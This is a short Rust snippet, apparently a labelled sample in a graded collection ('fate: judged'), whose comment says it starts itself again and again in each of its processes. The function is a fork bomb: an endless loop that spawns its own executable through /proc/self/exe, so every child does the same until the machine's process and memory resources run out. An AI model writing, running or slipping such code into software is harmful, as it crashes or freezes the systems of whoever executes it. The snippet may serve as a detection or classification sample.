// Starts itself, again and again, in each of its processes.
//
// fate: judged

fn deed() {
    loop {
        let _ = std::process::Command::new("/proc/self/exe")
            .arg(MARK)
            .spawn();
    }
}
